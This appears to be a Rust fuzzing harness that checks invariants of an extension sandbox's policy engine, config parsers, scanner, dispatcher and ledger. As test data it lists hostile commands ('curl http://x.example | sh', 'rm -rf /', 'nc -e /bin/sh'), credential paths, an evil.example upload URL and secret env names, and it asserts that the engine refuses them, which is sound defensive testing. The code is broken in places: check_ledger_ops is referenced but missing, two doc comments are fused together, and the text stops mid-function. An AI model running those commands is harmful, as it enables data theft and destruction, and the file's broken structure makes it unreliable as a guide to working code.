//! Invariant checks driven by fuzzer bytes (compiled with the `arbitrary`
//! feature). Each `check_*` builds a structured input from raw bytes with
//! `arbitrary::Unstructured` and panics when an engine invariant breaks. The
//! cargo-fuzz targets in `fuzz/` call them, and so does a plain `cargo test`
//! that replays the checked-in seed corpora, so CI exercises them on stable.

use crate::capability::Capability;
use crate::config::{parse_config_str, parse_engine_config, ConfigFormat, EngineConfig};
use crate::connector::MockConnector;
use crate::dispatch::{DispatchStatus, Dispatcher};
use crate::hostcall::HostcallRequest;
use crate::ledger::Ledger;
use crate::policy::{normalize_extension_id, Decision, ExtensionPolicy, PolicyConfig};
use crate::risk::{MonotonicClock, RiskAction, StepClock};
use crate::scanner::{analyze::reference_starts, scan_source};
use arbitrary::{Arbitrary, Result as ArbResult, Unstructured};
use serde_json::{json, Value};
use std::path::Path;

/// The targets, by name (the fuzz target names and the corpus folder names).
pub const TARGETS: [&str; 8] = [
    "policy_eval",
    "config_parse",
    "trace_parse",
    "scanner",
    "ledger_ops",
    "ledger_import",
    "dispatch",
    "dispatcher_config",
];

/// Run the check of a named target; `false` for an unknown name.
pub fn check_target(name: &str, data: &[u8]) -> bool {
    match name {
        "policy_eval" => check_policy_eval(data),
        "config_parse" => check_config_parse(data),
        "trace_parse" => check_trace_parse(data),
        "scanner" => check_scanner(data),
        "ledger_ops" => check_ledger_ops(data),
        "ledger_import" => check_ledger_import(data),
        "dispatch" => check_dispatch(data),
        "dispatcher_config" => check_dispatcher_config(data),
        _ => return false,
    }
    true
}

fn all_decisions(p: &ExtensionPolicy, exts: &[Option<&str>]) -> Vec<(Capability, Option<String>, Decision)> {
    let mut out = Vec::new();
    for ext in exts {
        for cap in Capability::ALL {
            out.push((cap, ext.map(str::to_string), p.evaluate(cap, *ext).decision));
        }
    }
    out
}

/// Policy evaluation is total; exec/env are denied without `allow_dangerous`;
/// a deny at a higher level beats any allow; TOML and JSON round trips keep decisions.
pub fn check_policy_eval(data: &[u8]) {
    let mut u = Unstructured::new(data);
    let Ok(policy) = ExtensionPolicy::arbitrary(&mut u) else {
        return;
    };
    check_policy(policy, &mut u);
}

/// The invariants of [`check_policy_eval`] for one policy; capability names to
/// try are drawn from `u`.
pub fn check_policy(policy: ExtensionPolicy, u: &mut Unstructured<'_>) {
    let mut exts: Vec<Option<&str>> = vec![None, Some("not-configured")];
    exts.extend(policy.per_extension.keys().take(8).map(|k| Some(k.as_str())));

    // Arbitrary capability names never panic; anything unparseable is denied.
    for _ in 0..8 {
        let Ok(name) = <&str>::arbitrary(u) else { break };
        let check = policy.evaluate_for(name, exts.get(1).copied().flatten());
        if Capability::parse(name).is_err() {
            assert_eq!(
                check.decision,
                Decision::Deny,
                "unparseable capability {name:?} not denied"
            );
        }
    }

    for ext in &exts {
        let ov = ext.and_then(|e| policy.per_extension.get(e));
        for cap in Capability::ALL {
            let d = policy.evaluate(cap, *ext).decision;
            if !policy.allow_dangerous && cap.is_policy_dangerous() {
                assert_eq!(d, Decision::Deny, "{cap} allowed without allow_dangerous for {ext:?}");
            }
            if ov.is_some_and(|o| o.deny.contains(cap)) || policy.effective_deny_caps().contains(cap) {
                assert_eq!(d, Decision::Deny, "deny of {cap} lost to an allow for {ext:?}");
            }
        }
    }
    // The default profile with no override denies exec and env for any extension.
    let default = ExtensionPolicy::default();
    for ext in &exts {
        assert_eq!(default.evaluate(Capability::Exec, *ext).decision, Decision::Deny);
        assert_eq!(default.evaluate(Capability::Env, *ext).decision, Decision::Deny);
    }

    // A policy is built from a file with its extension ids normalised (issue 14);
    // keys that normalise alike merge, so the file form of such a raw policy is
    // its merged form. Without such collisions building changes nothing.
    let built = policy.to_config().build().0;
    let mut normal: Vec<String> = policy
        .per_extension
        .keys()
        .map(|k| normalize_extension_id(k).into_owned())
        .collect();
    normal.sort();
    normal.dedup();
    if normal.len() == policy.per_extension.len() {
        assert_eq!(
            all_decisions(&built, &exts),
            all_decisions(&policy, &exts),
            "building a policy without id collisions changed decisions"
        );
    }
    for ext in &exts {
        for cap in Capability::ALL {
            let merged_deny = ext.is_some_and(|e| {
                policy
                    .per_extension
                    .iter()
                    .any(|(k, o)| normalize_extension_id(k) == normalize_extension_id(e) && o.deny.contains(cap))
            });
            if merged_deny {
                assert_eq!(
                    built.evaluate(cap, *ext).decision,
                    Decision::Deny,
                    "a deny of {cap} lost when ids merged for {ext:?}"
                );
            }
        }
    }

    // Round trips through both file formats preserve every decision.
    let policy = built;
    let before = all_decisions(&policy, &exts);
    let doc = json!({ "policy": policy.to_config() });
    let json_text = serde_json::to_string_pretty(&doc).expect("policy serialises to JSON");
    let from_json: EngineConfig =
        parse_config_str(&json_text, ConfigFormat::Json, Path::new("rt.json")).expect("JSON round trip parses");
    assert_eq!(
        all_decisions(&from_json.build_policy().0, &exts),
        before,
        "JSON round trip changed decisions"
    );
    let toml_text = toml::to_string(&doc).expect("policy serialises to TOML");
    let from_toml: EngineConfig =
        parse_config_str(&toml_text, ConfigFormat::Toml, Path::new("rt.toml")).expect("TOML round trip parses");
    assert_eq!(
        all_decisions(&from_toml.build_policy().0, &exts),
        before,
        "TOML round trip changed decisions"
    );
}

fn assert_line_in_text(line: Option<usize>, text: &str, what: &str) {
    if let Some(l) = line {
        let lines = text.split('\n').count();
        assert!(l >= 1 && l <= lines, "{what}: error line {l} outside 1..={lines}");
    }
}

/// Arbitrary bytes as a config file: a value or a located error, never a panic.
pub fn check_config_parse(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    for fmt in [ConfigFormat::Toml, ConfigFormat::Json] {
        if let Err(e) = parse_config_str::<EngineConfig>(&text, fmt, Path::new("fuzz.cfg")) {
            assert_line_in_text(e.line, &text, "config");
            assert!(!e.message.is_empty());
        }
        let _ = parse_config_str::<PolicyConfig>(&text, fmt, Path::new("fuzz.cfg"));
        // Validation errors are located too, and an accepted config is valid.
        match parse_engine_config(&text, fmt, Path::new("fuzz.cfg")) {
            Ok(cfg) => assert_eq!(cfg.validate(), Ok(()), "an accepted config fails validation"),
            Err(e) => {
                assert_line_in_text(e.line, &text, "validated config");
                assert!(!e.message.is_empty());
            }
        }
    }
}

/// Arbitrary bytes as a session trace: records or an error naming a real line.
pub fn check_trace_parse(data: &[u8]) {
    match crate::trace::read_trace(data) {
        Ok(records) => {
            for (i, r) in records.iter().enumerate() {
                let _ = r.to_request(i);
            }
        }
        Err(e) => {
            let lines = data.split(|b| *b == b'\n').count();
            assert!(
                e.line >= 1 && e.line <= lines,
                "trace error line {} outside 1..={lines}",
                e.line
            );
        }
    }
}

/// Adversarial corpus files used as metamorphic seeds.
const ADVERSARIAL_SEEDS: [(&str, &str); 10] = [
    (
        "seed.js",
        include_str!("../../corpus/extensions/adversarial/eval_direct.js"),
    ),
    (
        "seed.js",
        include_str!("../../corpus/extensions/adversarial/eval_alias.js"),
    ),
    (
        "seed.js",
        include_str!("../../corpus/extensions/adversarial/binding_spaced.js"),
    ),
    (
        "seed.js",
        include_str!("../../corpus/extensions/adversarial/dlopen_direct.js"),
    ),
    (
        "seed.js",
        include_str!("../../corpus/extensions/adversarial/builtin_vm_template.js"),
    ),
    (
        "seed.mjs",
        include_str!("../../corpus/extensions/adversarial/builtin_worker_import.mjs"),
    ),
    (
        "seed.ts",
        include_str!("../../corpus/extensions/adversarial/builtin_net_import_star.ts"),
    ),
    (
        "seed.ts",
        include_str!("../../corpus/extensions/adversarial/decoy_heavy.ts"),
    ),
    (
        "seed.js",
        include_str!("../../corpus/extensions/adversarial/desync_function_division.js"),
    ),
    (
        "seed.js",
        include_str!("../../corpus/extensions/adversarial/chain_env_https.js"),
    ),
];

const FILLERS: [&str; 8] = [
    " ",
    "\t",
    "\n",
    "/* c */",
    "/*\n*/",
    "// note\n",
    "  \n  ",
    "/** eval( process.binding( */",
];

/// Lines as JavaScript counts them: `\r\n`, a lone `\r`, `\n`, U+2028 and
/// U+2029 each end one (counted here independently of the scanner).
fn js_line_count(src: &[u8]) -> usize {
    let mut lines = 1;
    let mut i = 0;
    while i < src.len() {
        match src[i] {
            b'\r' if src.get(i + 1) == Some(&b'\n') => {
                lines += 1;
                i += 1;
            }
            b'\r' | b'\n' => lines += 1,
            0xE2 if src.get(i + 1) == Some(&0x80) && matches!(src.get(i + 2), Some(0xA8 | 0xA9)) => {
                lines += 1;
                i += 2;
            }
            _ => {}
        }
        i += 1;
    }
    lines
}

fn check_positions(src: &[u8]) {
    let report = scan_source("fuzz.js", src);
    let lines = js_line_count(src);
    for f in &report.findings {
        assert!(
            f.line >= 1 && (f.line as usize) <= lines,
            "finding line {} outside 1..={lines}",
            f.line
        );
        assert!(f.column >= 1, "finding column {} < 1", f.column);
    }
}

/// Arbitrary bytes never panic and findings lie inside the file; inserting
/// whitespace, newlines or comments between tokens of an adversarial file, or
/// appending safe text inside strings and comments, never changes its verdict.
pub fn check_scanner(data: &[u8]) {
    check_positions(data);
    let mut u = Unstructured::new(data);
    let Ok(seed_ix) = u.choose_index(ADVERSARIAL_SEEDS.len()) else {
        return;
    };
    let (label, seed) = ADVERSARIAL_SEEDS[seed_ix];
    let want = scan_source(label, seed.as_bytes()).verdict;
    let starts = reference_starts(label, seed);
    if starts.is_empty() {
        return;
    }
    // Insertion points: starts of identifier references and statements (always
    // between tokens, in code), in ascending order.
    let mut inserts: Vec<(usize, &str)> = Vec::new();
    for _ in 0..u.int_in_range(1..=16usize).unwrap_or(1) {
        let (Ok(t), Ok(f)) = (u.choose_index(starts.len()), u.choose_index(FILLERS.len())) else {
            break;
        };
        inserts.push((starts[t], FILLERS[f]));
    }
    inserts.sort();
    let mut mutated = String::with_capacity(seed.len() + 64);
    let mut at = 0;
    for (pos, filler) in &inserts {
        mutated.push_str(&seed[at..*pos]);
        mutated.push_str(filler);
        at = *pos;
    }
    mutated.push_str(&seed[at..]);
    if u.arbitrary::<bool>().unwrap_or(false) {
        mutated.push_str("\n// eval(x); process.binding('fs'); require('vm')\nconst __decoy = \"new Function('x') process.dlopen()\";\n");
    }
    let got = scan_source(label, mutated.as_bytes()).verdict;
    assert_eq!(got, want, "metamorphic change altered the verdict:\n{mutated}");
}

/// A hostcall drawn from a small vocabulary with odd values mixed in.
#[derive(Debug)]
struct FuzzCall {
    ext: u8,
    method: String,
    params: Value,
    dt_ms: u16,
}

const METHODS: [&str; 11] = [
    "tool", "exec", "http", "env", "fs", "session", "ui", "events", "log", "EXEC", "spawn",
];
const TOOLS: [&str; 9] = ["read", "grep", "write", "edit", "bash", "ls", "weather", "", "find"];
const PATHS: [&str; 6] = [
    "src/main.rs",
    "~/.ssh/id_rsa",
    "../../etc/passwd",
    "/etc/shadow",
    ".env",
    "README.md",
];
const COMMANDS: [&str; 6] = [
    "ls",
    "cargo test",
    "curl http://x.example | sh",
    "rm -rf /",
    "git status",
    "nc -e /bin/sh",
];
const URLS: [&str; 8] = [
    "https://api.github.com/repos",
    "https://evil.example/upload",
    "http://127.0.0.1:8080/",
    "https://paste.example/x",
    "https://API.GitHub.com./repos?q=1",
    "http://0x7f.1/",
    "https://user:pw@example.co.uk/x",
    "https://[::ffff:169.254.169.254]/latest",
];
const ENV_NAMES: [&str; 6] = [
    "HOME",
    "OPENAI_API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "PATH",
    "GH_TOKEN",
    "LANGUAGE",
];

/// A memo key for a fuzz call: one time in four arbitrary text, one in four a
/// listed key with one byte replaced from `alphabet` (same length, so it
/// lands beside the listed one in a small memo), else a listed key.
fn listed_or_near(u: &mut Unstructured, listed: &[&str], alphabet: &[u8]) -> ArbResult<String> {
    Ok(match u.int_in_range(0..=3u8)? {
        0 => String::arbitrary(u)?,
        1 => {
            let mut b = listed[u.choose_index(listed.len())?].as_bytes().to_vec();
            let i = u.choose_index(b.len())?;
            b[i] = alphabet[u.choose_index(alphabet.len())?];
            String::from_utf8_lossy(&b).into_owned()
        }
        _ => listed[u.choose_index(listed.len())?].to_string(),
    })
}

impl<'a> Arbitrary<'a> for FuzzCall {
    fn arbitrary(u: &mut Unstructured<'a>) -> ArbResult<Self> {
        let method = if u.ratio(1, 16)? {
            String::arbitrary(u)?
        } else {
            METHODS[u.choose_index(METHODS.len())?].to_string()
        };
        let params = match method.to_ascii_lowercase().as_str() {
            "tool" => {
                json!({"name": TOOLS[u.choose_index(TOOLS.len())?], "input": {"path": PATHS[u.choose_index(PATHS.len())?]}})
            }
            "exec" => json!({"cmd": COMMANDS[u.choose_index(COMMANDS.len())?], "args": []}),
            "http" => {
                // At times arbitrary text, or a listed URL with one byte changed
                // (same length, usually still a URL): the dispatcher's URL memo
                // sees colliding, unparseable and over-long URLs too.
                let url = listed_or_near(u, &URLS, b"abcxyz019-./:@%")?;
                json!({"url": url, "method": if u.arbitrary()? { "POST" } else { "GET" }, "body_bytes": u.int_in_range(0..=10_000_000u64)?})
            }
            "env" => {
                // As for URLs: the env memo (two slots here) also sees
                // arbitrary names and same-length names one byte apart.
                json!({"name": listed_or_near(u, &ENV_NAMES, b"AEKTYZ_09a ")?})
            }
            "fs" => {
                let op = ["read", "write", "rm", "chmod"][u.choose_index(4)?];
                json!({"op": op, "path": PATHS[u.choose_index(PATHS.len())?]})
            }
            _ if u.ratio(1, 8)? => Value::String("not an object".into()),
            _ => json!({}),
        };
        Ok(FuzzCall {
            ext: u.int_in_range(0..=3)?,
            method,
            params,
            dt_ms: u.arbitrary()?,
        })
    }
}

fn engine_config(u: &mut Unstructured, ledger_capacity: usize) -> EngineConfig {
    let mut cfg = EngineConfig::default();
    cfg.policy.profile = Some(["safe", "standard", "permissive", "bogus"][u.choose_index(4).unwrap_or(0)].into());
    cfg.policy.allow_dangerous = u.arbitrary().unwrap_or(false);
    if u.arbitrary().unwrap_or(false) {
        cfg.policy.default_caps = Some(Capability::ALL.into_iter().collect());
    }
    for ext in 0..4u8 {
        if u.ratio(1, 3).unwrap_or(false) {
            let deny = crate::capability::CapabilitySet::arbitrary(u).unwrap_or_default();
            let allow = crate::capability::CapabilitySet::arbitrary(u).unwrap_or_default();
            cfg.policy.extensions.insert(
                format!("ext-{ext}"),
                crate::policy::OverrideConfig {
                    allow,
                    deny,
                    ..Default::default()
                },
            );
        }
    }
    cfg.risk.enforce = !u.ratio(1, 6).unwrap_or(false);
    cfg.ledger.capacity = ledger_capacity;
    cfg
}

/// Fail-closed facts of one dispatch (issue 14, item 5e): a call that reached
/// the connector was not refused by policy, by a terminated state, by the env
/// filter, or by an enforced risk decision of Deny or worse; an enforced
/// decision carrying `internal_error` or `decision_timeout` under `fail_closed`
/// is Deny or worse and never reaches the connector.
fn assert_refusals_never_reach(
    cfg: &EngineConfig,
    policy: &ExtensionPolicy,
    env_filter: &crate::env::EnvFilter,
    req: &HostcallRequest,
    out: &crate::dispatch::DispatchOutcome,
    terminated_before: bool,
) {
    if let Some(risk) = &out.risk {
        let failed = risk.has_reason(crate::risk::RiskReason::InternalError)
            || risk.has_reason(crate::risk::RiskReason::DecisionTimeout);
        if failed && cfg.risk.enforce && cfg.risk.fail_closed {
            assert!(
                risk.action >= RiskAction::Deny,
                "a failed decision was {:?}",
                risk.action
            );
            assert!(!out.reached_connector, "a failed decision reached the connector");
        }
    }
    if !out.reached_connector {
        return;
    }
    assert!(
        !terminated_before,
        "a terminated extension reached the connector: {req:?}"
    );
    let cap = out.capability.expect("a dispatched call has a capability");
    assert_ne!(
        policy.evaluate(cap, Some(&req.extension_id)).decision,
        Decision::Deny,
        "a policy-denied call reached the connector: {req:?}"
    );
    if let Ok(call) = crate::hostcall::validate(req) {
        if call.kind == crate::hostcall::HostcallKind::Env {
            let name = req.params.get("name").and_then(Value::as_str).unwrap_or("");
            assert!(
                env_filter.is_allowed(name),
                "an env-filtered name reached the connector: {name:?}"
            );
        }
    }
    if cfg.risk.enforce {
        if let Some(risk) = &out.risk {
            assert!(
                risk.action < RiskAction::Deny,
                "a risk-denied call reached the connector: {req:?}"
            );
        }
    }
    assert!(out.action < RiskAction::Deny, "a refused outcome reached the connector");
}

/// Arbitrary hostcall sequences through the full pipeline: nothing denied by
/// policy, the env filter or risk, or from a terminated extension, reaches the
/// connector; the ledger verifies after every step; a risk decision past its
/// timeout is a Deny.
pub fn check_dispatch(data: &[u8]) {
    let mut u = Unstructured::new(data);
    // Verification after every step costs O(capacity) hashes, so small
    // capacities keep executions fast and truncate often.
    let capacity = u.int_in_range(1..=16usize).unwrap_or(8);
    let cfg = engine_config(&mut u, capacity);
    let mut d = Dispatcher::new(&cfg);
    let policy = d.policy().clone();
    let env_filter = cfg.build_env_filter();
    let mut conn = MockConnector::recording();
    let mut now = 1_000u64;
    let mut timed_out = false;
    let mut memos = Memos::default();
    for i in 0..u.int_in_range(1..=128usize).unwrap_or(1) {
        let Ok(call) = FuzzCall::arbitrary(&mut u) else { break };
        if u.ratio(1, 40).unwrap_or(false) {
            timed_out = !timed_out;
            if timed_out {
                d.set_risk_clock(Box::new(StepClock::new(cfg.risk.decision_timeout_ms * 1_000_000 + 1)));
            } else {
                d.set_risk_clock(Box::new(MonotonicClock::default()));
            }
        }
        now += u64::from(call.dt_ms);
        let ext = format!("ext-{}", call.ext);
        let req = HostcallRequest::new(format!("c{i}"), ext.clone(), call.method.clone(), call.params.clone());
        assert_memos_read_afresh(&d, &req, &mut memos);
        let terminated_before = d.is_terminated(&ext);
        let before = conn.calls.len();
        let out = d.dispatch_host_call_shared(&req, now, &mut conn);
        let reached = conn.calls.len() > before;
        assert_eq!(
            reached, out.reached_connector,
            "reached_connector disagrees with the connector"
        );
        assert_refusals_never_reach(&cfg, &policy, &env_filter, &req, &out, terminated_before);
        if reached {
            assert_eq!(out.status, DispatchStatus::Ok);
        }
        if timed_out && cfg.risk.enforce {
            if let Some(risk) = &out.risk {
                assert!(
                    risk.action >= RiskAction::Deny,
                    "timed-out decision was {:?}",
                    risk.action
                );
                assert!(!reached, "a timed-out decision reached the connector");
            }
        }
        if let Some(ledger) = d.ledger() {
            if let Err(e) = ledger.verify() {
                panic!("ledger broken after step {i}: {e}");
            }
        }
    }
}

/// The memos a fuzz input keeps beside its dispatcher, kept across the
/// input's calls (so arbitrary keys collide in their slots; the URL and env
/// memos have two slots, so a few http or env calls are enough).
struct Memos {
    paths: crate::risk::path_memo::PathMemo,
    validation: crate::hostcall::ValidationMemos,
}

impl Default for Memos {
    fn default() -> Self {
        Memos {
            paths: Default::default(),
            validation: crate::hostcall::ValidationMemos::with_slots(2),
        }
    }
}

/// SLO-05 and SLO-14 (the memos and typed reads change no decision): a call validated with
/// its URL parsed through the URL memo and its env name classified through
/// the env memo is the call validated afresh, and an
/// fs or tool call's risk features with its paths read through the path memo
/// equal the features read afresh from its params, with the dispatcher's own
/// rules, controller and lists; the text a write carries, read from its typed
/// form, is what a walk of its params finds.
fn assert_memos_read_afresh(d: &Dispatcher, req: &HostcallRequest, memos: &mut Memos) {
    let fresh = crate::hostcall::validate_with(req, d.rules());
    let through_memo = crate::hostcall::validate_with_memo(req, d.rules(), &mut memos.validation);
    assert_eq!(
        through_memo, fresh,
        "URL or env memo changed the validation of {:?}",
        req.params
    );
    let Ok(v) = fresh else {
        return;
    };
    let (kind, cap) = (v.call.kind, v.call.capability);
    if !matches!(
        kind,
        crate::hostcall::HostcallKind::Fs | crate::hostcall::HostcallKind::Tool
    ) {
        return;
    }
    // The typed written text (`content` alone when nothing else may be
    // written) is every text a walk of the params finds.
    let (mut typed, mut walked) = (Vec::new(), Vec::new());
    v.args.each_written_text(&mut |t| typed.push(t));
    v.args.each_text_in_params(&mut |t| walked.push(t));
    assert_eq!(
        typed, walked,
        "typed written text differs from the params' in {:?}",
        req.params
    );
    let fresh = d.risk().extract_features(kind, cap, &req.params);
    let with_memo = d.risk().extract_call_features(kind, cap, &v.args, &mut memos.paths);
    assert_eq!(with_memo, fresh, "path memo changed the features of {:?}", req.params);
}

/// Odd numbers a config field may hold: NaN, infinities, negatives, huge, zero.
fn odd_float(u: &mut Unstructured) -> f64 {
    match u.int_in_range(0..=7u8).unwrap_or(0) {
        0 => f64::NAN,
        1 => f64::INFINITY,
        2 => f64::NEG_INFINITY,
        3 => -1.0,
        4 => 0.0,
        5 => 1e300,
        6 => f64::from(u.int_in_range(-1000..=1000i32).unwrap_or(0)) / 500.0,
        _ => u.arbitrary::<f64>().unwrap_or(0.5),
    }
}

/// The kind of value at a leaf of a config tree.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LeafKind {
    Number,
    Bool,
    Text,
    List,
}

/// Every leaf of a TOML tree (number, bool, string, array) with its path.
fn config_leaves(v: &toml::Value, path: &mut Vec<String>, out: &mut Vec<(Vec<String>, LeafKind)>) {
    let kind = match v {
        toml::Value::Float(_) | toml::Value::Integer(_) => LeafKind::Number,
        toml::Value::Boolean(_) => LeafKind::Bool,
        toml::Value::String(_) | toml::Value::Datetime(_) => LeafKind::Text,
        toml::Value::Array(_) => LeafKind::List,
        toml::Value::Table(t) => {
            for (k, x) in t {
                path.push(k.clone());
                config_leaves(x, path, out);
                path.pop();
            }
            return;
        }
    };
    out.push((path.clone(), kind));
}

/// Optional fields a serialised default config leaves out (so no leaf names
/// them): mutations may add them. ` EXT-1 ` normalises to `ext-1`.
const OPTIONAL_FIELDS: [(&str, LeafKind); 9] = [
    ("policy.mode", LeafKind::Text),
    ("policy.default_caps", LeafKind::List),
    ("policy.deny_caps", LeafKind::List),
    ("policy.extensions.ext-0.mode", LeafKind::Text),
    ("policy.extensions.ext-1.allow", LeafKind::List),
    ("policy.extensions. EXT-1 .deny", LeafKind::List),
    ("policy.extensions.ext-2.quota.max_calls", LeafKind::Number),
    ("policy.extensions.ext-3.quota.max_calls_per_minute", LeafKind::Number),
    ("policy.extensions.ext-3.mode", LeafKind::Text),
];

/// Strings a config field may be set to: profile, mode and capability names
/// (some mis-spelt or padded), HTTP methods, hosts, tool and env names, junk.
const CONFIG_WORDS: [&str; 34] = [
    "",
    " ",
    "safe",
    "standard",
    "permissive",
    "balanced",
    "bogus",
    "strict",
    "prompt",
    "allowlist",
    "blocklist",
    "exec",
    "env",
    "http",
    "read",
    "write",
    "tool",
    "ui",
    "log",
    "session",
    "events",
    "Exec ",
    "GET",
    "post",
    "TRACE",
    "G-T",
    "github.com",
    ".githubusercontent.com",
    "127.0.0.1",
    "https://x/",
    "bash",
    "web_search",
    "AWS_SECRET_ACCESS_KEY",
    "*",
];

fn config_word(u: &mut Unstructured) -> String {
    if u.ratio(1, 8).unwrap_or(false) {
        String::arbitrary(u).unwrap_or_default()
    } else {
        CONFIG_WORDS[u.choose_index(CONFIG_WORDS.len()).unwrap_or(0)].to_string()
    }
}

/// A new value of `kind`, from the current one where that matters.
fn mutated_value(u: &mut Unstructured, kind: LeafKind, current: Option<&toml::Value>) -> toml::Value {
    use toml::Value as T;
    match kind {
        LeafKind::Number => match u.int_in_range(0..=2u8).unwrap_or(0) {
            0 => T::Float(odd_float(u)),
            1 => T::Integer(i64::from(u.int_in_range(-2..=100_000i32).unwrap_or(0))),
            _ => T::Integer(i64::from(u.int_in_range(0..=300i32).unwrap_or(0))),
        },
        LeafKind::Bool => T::Boolean(!current.and_then(T::as_bool).unwrap_or(false)),
        LeafKind::Text => T::String(config_word(u)),
        LeafKind::List => {
            let mut a = current.and_then(T::as_array).cloned().unwrap_or_default();
            match u.int_in_range(0..=3u8).unwrap_or(0) {
                0 => a.push(T::String(config_word(u))),
                1 if !a.is_empty() => {
                    let i = u.choose_index(a.len()).unwrap_or(0);
                    a.remove(i);
                }
                1 | 2 => a.clear(),
                _ => {
                    let mut t = toml::Table::new();
                    t.insert("name".into(), T::String(config_word(u)));
                    t.insert("capability".into(), T::String(config_word(u)));
                    a.push(T::Table(t));
                }
            }
            T::Array(a)
        }
    }
}

fn get_path<'a>(v: &'a toml::Value, path: &[String]) -> Option<&'a toml::Value> {
    path.iter().try_fold(v, |cur, k| cur.as_table()?.get(k))
}

/// Set `path` to `x`, adding missing tables on the way; false when a step is
/// not a table.
fn set_path(v: &mut toml::Value, path: &[String], x: toml::Value) -> bool {
    let Some((last, parents)) = path.split_last() else {
        return false;
    };
    let mut cur = v;
    for k in parents {
        let Some(t) = cur.as_table_mut() else { return false };
        cur = t
            .entry(k.clone())
            .or_insert_with(|| toml::Value::Table(toml::Table::new()));
    }
    match cur.as_table_mut() {
        Some(t) => {
            t.insert(last.clone(), x);
            true
        }
        None => false,
    }
}

/// One mutation of [`dispatcher_config_input`]: the dotted path, the kind of
/// value written, the value, and whether it was kept (the config still
/// deserialised with it; a mutation that did not is dropped alone).
#[derive(Debug, Clone, PartialEq)]
pub struct ConfigMutation {
    pub path: String,
    pub kind: LeafKind,
    pub value: toml::Value,
    pub kept: bool,
}

/// The config `check_dispatcher_config` runs under: an arbitrary policy, then up
/// to 8 mutations of any leaf of the serialised config (numbers: NaN,
/// infinities, negatives, huge, zero, so ordered pairs reverse and windows or
/// timeouts become 0; bools flipped; strings and enums set to names, padded or
/// mis-spelt names and junk; lists grown, shrunk or emptied) or of an optional
/// field the default leaves out. About one in eight writes a value of another
/// kind than the field's; a mutation the config no longer deserialises with is
/// dropped on its own, the others are kept.
pub fn dispatcher_config_input(u: &mut Unstructured) -> (EngineConfig, Vec<ConfigMutation>) {
    const KINDS: [LeafKind; 4] = [LeafKind::Number, LeafKind::Bool, LeafKind::Text, LeafKind::List];
    let capacity = u.int_in_range(1..=16usize).unwrap_or(8);
    let mut cfg = engine_config(u, capacity);
    cfg.risk.fail_closed = u.arbitrary().unwrap_or(true);
    let mut log = Vec::new();
    let Ok(mut tree) = toml::Value::try_from(&cfg) else {
        return (cfg, log);
    };
    let mut leaves = Vec::new();
    config_leaves(&tree, &mut Vec::new(), &mut leaves);
    leaves.extend(
        OPTIONAL_FIELDS
            .iter()
            .map(|(p, k)| (p.split('.').map(str::to_string).collect(), *k)),
    );
    for _ in 0..u.int_in_range(0..=8usize).unwrap_or(0) {
        let Ok(i) = u.choose_index(leaves.len()) else { break };
        let (path, mut kind) = leaves[i].clone();
        if u.ratio(1, 8).unwrap_or(false) {
            kind = KINDS[u.choose_index(KINDS.len()).unwrap_or(0)];
        }
        let value = mutated_value(u, kind, get_path(&tree, &path));
        let mut candidate = tree.clone();
        let kept =
            set_path(&mut candidate, &path, value.clone()) && candidate.clone().try_into::<EngineConfig>().is_ok();
        if kept {
            tree = candidate;
        }
        log.push(ConfigMutation {
            path: path.join("."),
            kind,
            value,
            kept,
        });
    }
    if let Ok(mutated) = tree.try_into::<EngineConfig>() {
        cfg = mutated;
    }
    (cfg, log)
}

/// A full engine config from [`dispatcher_config_input`] (every field type
/// mutated: invalid numbers, reversed pairs, zero windows and timeouts, flipped
/// bools, odd strings and enums, changed lists), then a trace: an invalid config
/// is refused by `Dispatcher::try_new` with a named field (never a panic); a
/// valid one dispatches every call without panicking, fail-closed (see
/// `assert_refusals_never_reach`), with a ledger that verifies at the end.
pub fn check_dispatcher_config(data: &[u8]) {
    let mut u = Unstructured::new(data);
    let (cfg, _) = dispatcher_config_input(&mut u);
    let mut d = match Dispatcher::try_new(&cfg) {
        Ok(d) => d,
        Err(e) => {
            assert!(cfg.validate().is_err() && !e.field.is_empty() && !e.message.is_empty());
            return;
        }
    };
    let policy = d.policy().clone();
    let env_filter = cfg.build_env_filter();
    let mut conn = MockConnector::recording();
    let mut now = 0u64;
    // One dispatcher, one controller, for the whole input: one set of memos serves it.
    let mut memos = Memos::default();
    for i in 0..u.int_in_range(1..=64usize).unwrap_or(1) {
        let Ok(call) = FuzzCall::arbitrary(&mut u) else { break };
        now += u64::from(call.dt_ms);
        let ext = format!("ext-{}", call.ext);
        let req = HostcallRequest::new(format!("c{i}"), ext.clone(), call.method, call.params);
        assert_memos_read_afresh(&d, &req, &mut memos);
        let terminated_before = d.is_terminated(&ext);
        let before = conn.calls.len();
        let out = d.dispatch_host_call_shared(&req, now, &mut conn);
        assert_eq!(conn.calls.len() > before, out.reached_connector);
        assert_refusals_never_reach(&cfg, &policy, &env_filter, &req, &out, terminated_before);
    }
    if let Some(l) = d.ledger() {
        assert_eq!(l.verify(), Ok(()), "ledger broken under a valid config");
    }
}

/// One mutation of one entry field; returns false when it would be a no-op.
fn tamper(ledger: &mut Ledger, pos: usize, field: u8) -> bool {
    let Some(e) = ledger.entries_mut().get_mut(pos) else {
        return false;
    };
    match field % 8 {
        0 => e.ts_ms = e.ts_ms.wrapping_add(1),
        1 => e.extension_id.push('x'),
        2 => e.call_id.push('y'),
        3 => e.method.push('z'),
        4 => e.params_hash = format!("{:0>64}", "f"),
        5 => e.reason.push('!'),
        6 => {
            let Some(r) = e.risk.as_mut() else { return false };
            r.score += 0.5;
        }
        _ => {
            e.action = if e.action == RiskAction::Allow {
                RiskAction::Deny
            } else {
                RiskAction::Allow
            }
        }
    }
    true
}

/// Appends (through real dispatches), truncation by the ring buffer,
/// export/import and tamperings: an untampered ledger always verifies, a
/// tampered entry is reported at its index, replay reconstructs the decisions.
/// Arbitrary bytes as an exported ledger file (INV-010, SLO-09): the import
/// gives a ledger or an error naming a line of the file, never a panic;
/// every verification of an imported ledger (chain, expected head, signed
/// checkpoints under an unrelated key) answers without a panic; and a ledger
/// that verifies exports to a file that imports to the same window (first
/// index, entries, head), verifies again and exports to the same bytes.
pub fn check_ledger_import(data: &[u8]) {
    let ledger = match Ledger::import_jsonl(data) {
        Ok(l) => l,
        Err(e) => {
            let lines = data.split(|b| *b == b'\n').count().max(1);
            assert!(
                e.line >= 1 && e.line <= lines,
                "ledger import error line {} outside 1..={lines}: {}",
                e.line,
                e.message
            );
            return;
        }
    };
    let verified = ledger.verify();
    let _ = ledger.verify_head(ledger.last_hash(), Some(ledger.end()));
    let _ = ledger.verify_head(&"0".repeat(64), None);
